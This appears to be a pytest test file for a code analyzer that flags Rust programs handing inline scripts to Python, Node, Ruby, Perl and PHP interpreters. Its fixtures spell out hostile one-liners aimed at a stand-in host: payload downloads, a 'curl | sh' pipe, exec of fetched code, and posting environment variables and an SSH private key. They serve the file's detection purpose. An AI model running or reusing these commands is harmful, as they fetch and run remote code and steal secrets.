"""Texts that are handed to Python, JavaScript, Ruby, Perl and PHP."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from analyzer.model import Fact, Report, Verdict
from analyzer.syntax.scripting import script_calls

FactsOf = Callable[..., list[Fact]]
ReportOf = Callable[..., Report]

DOWNLOADS = {
    "python3": "import urllib.request as u,os;u.urlretrieve('https://drop.invalid/p','/tmp/p');os.chmod('/tmp/p',493)",
    "python": "import requests;open('/tmp/p','wb').write(requests.get('https://drop.invalid/p').content)",
    "node": "require('https').get('https://drop.invalid/p',r=>r.pipe(require('fs').createWriteStream('/tmp/p')))",
    "ruby": "require 'open-uri'; IO.write('/tmp/p', URI.open('https://drop.invalid/p').read)",
    "perl": "use LWP::Simple; getstore('https://drop.invalid/p', '/tmp/p');",
    "php": "file_put_contents('/tmp/p', file_get_contents('https://drop.invalid/p'));",
}
FLAGS = {"node": "-e", "ruby": "-e", "perl": "-e", "php": "-r"}


def command(program: str, text: str) -> str:
    flag = FLAGS.get(program, "-c")
    return f'std::process::Command::new("{program}").args(["{flag}", r#"{text}"#]).status().ok();'


@pytest.mark.parametrize(("program", "text"), DOWNLOADS.items(), ids=DOWNLOADS)
def test_what_it_fetches_and_where_to_is_told(facts_of: FactsOf, program: str, text: str) -> None:
    found = {
        (one.kind, one.subject)
        for one in facts_of(f"pub fn go() {{ {command(program, text)} }}", "src/lib.rs")
    }
    assert ("net.connect", "https://drop.invalid/p") in found
    assert ("file.write", "/tmp/p") in found


@pytest.mark.parametrize(("program", "text"), DOWNLOADS.items(), ids=DOWNLOADS)
def test_what_it_fetched_and_rust_starts_asks_for_a_look_in_tests(
    report_of: ReportOf, program: str, text: str
) -> None:
    run = 'std::process::Command::new("/tmp/p").spawn().ok();'
    code = f"#[test] fn t() {{ {command(program, text)} {run} }}"
    assert report_of({"tests/t.rs": code}).verdict is Verdict.REVIEW


@pytest.mark.parametrize(
    "text",
    [
        "import os;os.system('curl -s https://drop.invalid/x | sh')",
        "import urllib.request as u;exec(u.urlopen('https://drop.invalid/x').read())",
        "import os,requests;requests.post('https://drop.invalid/x',data=str(dict(os.environ)))",
        "import os,requests;requests.post('https://drop.invalid/x',data=open(os.path.expanduser('~/.ssh/id_rsa')).read())",
    ],
)
def test_what_nobody_honest_hands_to_an_interpreter_blocks(report_of: ReportOf, text: str) -> None:
    code = f"pub fn go() {{ {command('python3', text)} }}"
    assert report_of({"src/lib.rs": code}).verdict is Verdict.BLOCK


@pytest.mark.parametrize(
    "text",
    [
        "import sysconfig; print(sysconfig.get_config_var('LIBDIR'))",
        "print('see https://docs.example.invalid/x')",
        "import os; print(os.environ['HOME'])",
    ],
)
def test_what_asks_the_interpreter_about_itself_is_no_deed(facts_of: FactsOf, text: str) -> None:
    found = facts_of(f"fn main() {{ {command('python3', text)} }}")
    assert not [one for one in found if one.api == "program:python" and one.kind != "process.shell"]


def test_calls_with_names_keywords_and_variables() -> None:
    calls = script_calls("u='https://x.invalid'\npost(u, data=open('a').read()); system \"ls\"")
    assert [(one.name, one.values[0], one.keywords) for one in calls] == [
        ("post", "https://x.invalid", ("data",)),
        ("open", "a", ()),
        ("read", "", ()),
        ("system", "ls", ()),
    ]
